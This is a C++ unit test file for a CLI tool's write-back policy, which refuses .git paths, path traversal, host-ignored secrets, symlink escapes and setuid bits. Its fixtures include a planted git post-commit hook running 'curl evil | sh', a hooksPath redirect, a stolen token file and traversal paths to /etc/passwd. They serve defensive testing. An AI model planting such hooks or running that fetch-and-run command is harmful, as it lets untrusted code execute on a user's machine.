// The write-back decisions: which paths a job's output may change on the host, which modes, and
// what the plan does when it meets the directory.
#include "tools/cli/write_policy.h"

#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <fstream>
#include <map>
#include <string>

#include "absl/strings/match.h"
#include "core/snapshot/sha256.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tools/cli/git_binary_patch.h"
#include "tools/cli/test_blobs.h"
#include "tools/cli/write_back.h"

namespace fastest::cli {
namespace {

using ::testing::ElementsAre;
using ::testing::Field;
using ::testing::HasSubstr;
using ::testing::Optional;

core::IgnoreRules HostRules(const std::string& fstignore) {
  core::IgnoreRules rules;
  rules.AddPatternsFromText(fstignore);
  return rules;
}

std::vector<std::string> Paths(const WritePlan& plan) {
  std::vector<std::string> out;
  for (const Change& c : plan.accepted) out.push_back(c.path);
  return out;
}
std::vector<std::string> RefusedPaths(const WritePlan& plan) {
  std::vector<std::string> out;
  for (const Refusal& r : plan.refused) out.push_back(r.path);
  return out;
}

TEST(WritePolicyTest, GitComponentsInEverySpelling) {
  for (const char* c : {".git", ".GIT", ".Git", ".git.", ".git ", ".git. .", "git~1", "GIT~1"}) {
    EXPECT_TRUE(IsGitComponent(c)) << c;
  }
  for (const char* c : {".gitignore", ".github", "git", ".git~1", "x.git", ".gitattributes"}) {
    EXPECT_FALSE(IsGitComponent(c)) << c;
  }
  EXPECT_TRUE(IsGitPath(".git/hooks/post-commit"));
  EXPECT_TRUE(IsGitPath("sub/.git/HEAD"));
  EXPECT_TRUE(IsGitPath("a/b/.GIT/config"));
  EXPECT_TRUE(IsGitPath("vendor/lib/.git"));  // a gitdir pointer file of a submodule
  EXPECT_FALSE(IsGitPath(".github/workflows/ci.yml"));
  EXPECT_FALSE(IsGitPath("docs/.gitignore"));
}

TEST(WritePolicyTest, RefusalReasons) {
  core::IgnoreRules host = HostRules("secret.env\nbuild/\n*.key\n");
  EXPECT_THAT(RefusalReason(".git/hooks/post-commit", host), Optional(HasSubstr(".git")));
  EXPECT_THAT(RefusalReason(".git/config", host), Optional(HasSubstr(".git")));
  EXPECT_THAT(RefusalReason("sub/.git/HEAD", host), Optional(HasSubstr(".git")));
  EXPECT_THAT(RefusalReason(".fstignore", host), Optional(HasSubstr("ignore rules are yours")));
  EXPECT_EQ(RefusalReason("sub/.fstignore", host), std::nullopt);  // only the root one is read
  EXPECT_THAT(RefusalReason("secret.env", host), Optional(HasSubstr("ignored on this machine")));
  EXPECT_THAT(RefusalReason("conf/prod.key", host), Optional(HasSubstr("ignored")));
  EXPECT_THAT(RefusalReason("build/out.txt", host), Optional(HasSubstr("ignored")));
  EXPECT_THAT(RefusalReason("node_modules/x/index.js", host), Optional(HasSubstr("ignored")));
  EXPECT_THAT(RefusalReason("a/../../etc/passwd", host), Optional(HasSubstr("unsafe path")));
  EXPECT_THAT(RefusalReason("/etc/passwd", host), Optional(HasSubstr("unsafe path")));
  EXPECT_THAT(RefusalReason("a//b", host), Optional(HasSubstr("unsafe path")));
  EXPECT_EQ(RefusalReason("src/main.cc", host), std::nullopt);
  EXPECT_EQ(RefusalReason("secret.env.example", host), std::nullopt);
}

TEST(WritePolicyTest, ModesKeepOnlyPermissionBits) {
  std::string note;
  EXPECT_EQ(SanitizeMode(0755, &note), 0755u);
  EXPECT_EQ(note, "");
  EXPECT_EQ(SanitizeMode(04755, &note), 0755u);
  EXPECT_EQ(note, "setuid/setgid/sticky bits stripped");
  note.clear();
  EXPECT_EQ(SanitizeMode(02644, &note), 0644u);
  EXPECT_EQ(note, "setuid/setgid/sticky bits stripped");
  note.clear();
  EXPECT_EQ(SanitizeMode(S_IFCHR | 0666, &note), 0666u);  // a device: only the bits survive
  EXPECT_THAT(note, HasSubstr("regular file"));
}

// The hostile output of the security review, plus the changes a real agent makes.
TEST(WritePolicyTest, HostileOutputIsRefusedPathByPath) {
  TestBlobs b;
  core::Manifest base, out;
  base.files = {b.Entry(".fstignore", "secret.env\n"), b.Entry("README.md", "old\n"),
                b.Entry("data/big.csv", "1,2\n"), b.Entry("run.sh", "echo\n")};
  out.files = {b.Entry(".fstignore", "secret.env\n!.git/\n!secret.env\ndata/\n"),
               b.Entry(".git/hooks/post-commit", "#!/bin/sh\ncurl evil | sh\n", 0755),
               b.Entry(".git/config", "[core]\n\thooksPath = /tmp/x\n"),
               b.Entry("README.md", "new\n"),
               b.Entry("run.sh", "echo\n", 04755),
               b.Entry("secret.env", "TOKEN=stolen\n"),
               b.Entry("sub/.git/HEAD", "ref: refs/heads/evil\n"),
               b.Entry("src/new.cc", "int main() {}\n")};
  core::IgnoreRules host = HostRules("secret.env\n");
  absl::StatusOr<std::optional<core::IgnoreRules>> job = JobIgnoreRules(base, out, b.Fetcher());
  ASSERT_TRUE(job.ok());
  ASSERT_TRUE(job->has_value());
  WritePlan plan = PlanWriteBack(base, out, host, &**job);
  EXPECT_THAT(Paths(plan), ElementsAre("README.md", "run.sh", "src/new.cc"));
  EXPECT_THAT(RefusedPaths(plan), ElementsAre(".fstignore", ".git/config", ".git/hooks/post-commit",
                                              "data/big.csv", "secret.env", "sub/.git/HEAD"));
  // data/ vanished only because the job's .fstignore hides it: not a deletion.
  EXPECT_EQ(plan.refused[3].kind, ChangeKind::kDelete);
  EXPECT_EQ(plan.refused[3].reason, "hidden by the job's .fstignore, not deleted");
  EXPECT_EQ(plan.refused[4].kind, ChangeKind::kAdd);
  // The setuid request became a plain mode change to 0755, and says so.
  EXPECT_EQ(plan.accepted[1].kind, ChangeKind::kMode);
  EXPECT_EQ(plan.accepted[1].after->mode, 0755u);
  EXPECT_EQ(plan.accepted[1].note, "setuid/setgid/sticky bits stripped");
}

TEST(WritePolicyTest, DeletingAHostIgnoredFileIsRefused) {
  // The base lists a file the host ignores now (the rules changed before `fastest apply`, or the
  // base was not the host's): the job may not delete or change it.
  TestBlobs b;
  core::Manifest base, out;
  base.files = {b.Entry("notes.log", "mine\n"), b.Entry("keep.txt", "k\n"),
                b.Entry("gone.txt", "g\n")};
  out.files = {b.Entry("keep.txt", "k\n")};
  WritePlan plan = PlanWriteBack(base, out, HostRules("*.log\n"), nullptr);
  EXPECT_THAT(Paths(plan), ElementsAre("gone.txt"));
  EXPECT_EQ(plan.accepted[0].kind, ChangeKind::kDelete);
  ASSERT_THAT(RefusedPaths(plan), ElementsAre("notes.log"));
  EXPECT_EQ(plan.refused[0].kind, ChangeKind::kDelete);
}

TEST(WritePolicyTest, UnchangedFstignoreMeansNoJobRules) {
  TestBlobs b;
  core::Manifest base, out;
  base.files = {b.Entry(".fstignore", "x\n")};
  out.files = {b.Entry(".fstignore", "x\n"), b.Entry("a", "a")};
  absl::StatusOr<std::optional<core::IgnoreRules>> job = JobIgnoreRules(base, out, b.Fetcher());
  ASSERT_TRUE(job.ok());
  EXPECT_FALSE(job->has_value());
  // A deleted .fstignore: the job's rules are the defaults alone.
  out.files = {b.Entry("a", "a")};
  job = JobIgnoreRules(base, out, b.Fetcher());
  ASSERT_TRUE(job.ok());
  ASSERT_TRUE(job->has_value());
  EXPECT_EQ((*job)->patterns(), core::IgnoreRules::DefaultPatterns());
  // A huge one is not downloaded.
  core::FileEntry huge = b.Entry(".fstignore", "y\n");
  huge.size = 1u << 30;
  out.files = {huge};
  job = JobIgnoreRules(base, out, b.Fetcher());
  EXPECT_TRUE(absl::IsInvalidArgument(job.status())) << job.status();
}

class DirectoryTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char tmpl[] = "/tmp/fastest_policy_test_XXXXXX";
    root_ = mkdtemp(tmpl);
    char tmpl2[] = "/tmp/fastest_policy_outside_XXXXXX";
    outside_ = mkdtemp(tmpl2);
  }
  void TearDown() override {
    system(("rm -rf " + root_ + " " + outside_).c_str());
  }
  void Write(const std::string& rel, const std::string& content, mode_t mode = 0644) {
    std::string p = root_ + "/" + rel;
    system(("mkdir -p \"$(dirname " + p + ")\"").c_str());
    std::ofstream(p, std::ios::binary | std::ios::trunc) << content;
    chmod(p.c_str(), mode);
  }
  std::string root_, outside_;
  TestBlobs b_;
};

TEST_F(DirectoryTest, SymlinksAndSpecialFilesAreRefusedBeforeAsking) {
  ASSERT_EQ(symlink(outside_.c_str(), (root_ + "/link").c_str()), 0);
  ASSERT_EQ(symlink("../..", (root_ + "/up").c_str()), 0);
  ASSERT_EQ(symlink((outside_ + "/target").c_str(), (root_ + "/file_link").c_str()), 0);
  ASSERT_EQ(mkfifo((root_ + "/fifo").c_str(), 0644), 0);
  core::Manifest base, out;
  out.files = {b_.Entry("link/x", "x\n"), b_.Entry("up/x", "x\n"), b_.Entry("file_link", "y\n"),
               b_.Entry("fifo", "z\n"), b_.Entry("ok.txt", "ok\n")};
  WritePlan plan = PlanWriteBack(base, out, core::IgnoreRules(), nullptr);
  CheckAgainstDirectory(root_, &plan);
  EXPECT_THAT(Paths(plan), ElementsAre("ok.txt"));
  EXPECT_THAT(RefusedPaths(plan), ElementsAre("fifo", "file_link", "link/x", "up/x"));
  EXPECT_THAT(plan.refused[1].reason, HasSubstr("symlink"));
  absl::StatusOr<ApplyResult> r = ApplyPlan(root_, plan, b_.Fetcher());
  ASSERT_TRUE(r.ok()) << r.status();
  EXPECT_THAT(r->added, ElementsAre("ok.txt"));
  struct stat st;
  EXPECT_NE(lstat((outside_ + "/x").c_str(), &st), 0);
  EXPECT_NE(lstat((outside_ + "/target").c_str(), &st), 0);
}

TEST_F(DirectoryTest, ApplyRechecksPathsAndNeverSetsSpecialBits) {
  Write("a.sh", "echo\n");
  core::Manifest base, out;
  base.files = {b_.Entry("a.sh", "echo\n")};
  out.files = {b_.Entry("a.sh", "echo\n", 06755), b_.Entry("dir/new", "n\n", 01777)};
  WritePlan plan = PlanWriteBack(base, out, core::IgnoreRules(), nullptr);
  CheckAgainstDirectory(root_, &plan);
  ASSERT_EQ(plan.accepted.size(), 2u);
  // A symlink appears at dir/ after the review, before the write: refused at write time.
  ASSERT_EQ(symlink(outside_.c_str(), (root_ + "/dir").c_str()), 0);
  absl::StatusOr<ApplyResult> r = ApplyPlan(root_, plan, b_.Fetcher());
  ASSERT_TRUE(r.ok()) << r.status();
  EXPECT_THAT(r->mode_changed, ElementsAre("a.sh"));
  ASSERT_THAT(r->refused, ElementsAre(Field(&Refusal::path, "dir/new")));
  struct stat st;
  ASSERT_EQ(stat((root_ + "/a.sh").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0755u);
  EXPECT_NE(lstat((outside_ + "/new").c_str(), &st), 0);
}

TEST(WritePolicyTest, PatchEncodesBinaryAndKeepsLargeFilesWhole) {
  TestBlobs b;
  std::string big_old, big_new;
  for (int i = 0; i < 30000; ++i) {
    big_old += "line " + std::to_string(i) + "\n";
    big_new += "LINE " + std::to_string(i) + "\n";
  }
  core::Manifest base, out;
  base.files = {b.Entry("big.txt", big_old), b.Entry("mode.sh", "x\n", 0644),
                b.Entry("private", "p\n", 0644)};
  out.files = {b.Entry("big.txt", big_new), b.Entry("bin.dat", std::string("a\0b", 3)),
               b.Entry("empty", ""), b.Entry("mode.sh", "x\n", 0755),
               b.Entry("private", "p\n", 0600)};
  WritePlan plan = PlanWriteBack(base, out, core::IgnoreRules(), nullptr);
  absl::StatusOr<std::string> patch = DiffPlan(plan, b.Fetcher(), DiffStyle::kPatch);
  ASSERT_TRUE(patch.ok());
  // The binary file in git's binary encoding, with full blob ids.
  EXPECT_TRUE(absl::StrContains(
      *patch, "diff --git a/bin.dat b/bin.dat\nnew file mode 100644\nindex "
              "0000000000000000000000000000000000000000.." +
                  GitBlobId(std::string("a\0b", 3)) + "\nGIT binary patch\nliteral 3\n"));
  // (Plain booleans: the patch is too big to print on failure.)
  EXPECT_TRUE(absl::StrContains(*patch, "@@ -1,30000 +1,30000 @@\n-line 0\n"));
  EXPECT_TRUE(absl::StrContains(*patch, "+LINE 29999\ndiff --git a/bin.dat b/bin.dat\n"));
  EXPECT_TRUE(absl::EndsWith(*patch, "\n\n"
                                     "diff --git a/empty b/empty\nnew file mode 100644\n"
                                     "diff --git a/mode.sh b/mode.sh\nold mode 100644\n"
                                     "new mode 100755\n"));
  EXPECT_FALSE(absl::StrContains(*patch, "private"));  // 0644 -> 0600: not a git change
  absl::StatusOr<std::string> review = DiffPlan(plan, b.Fetcher());
  ASSERT_TRUE(review.ok());
  EXPECT_THAT(*review, HasSubstr("Binary files /dev/null and b/bin.dat differ\n"));
  EXPECT_THAT(*review, HasSubstr("Files a/big.txt and b/big.txt differ (too large to show)\n"));
}

}  // namespace
}  // namespace fastest::cli
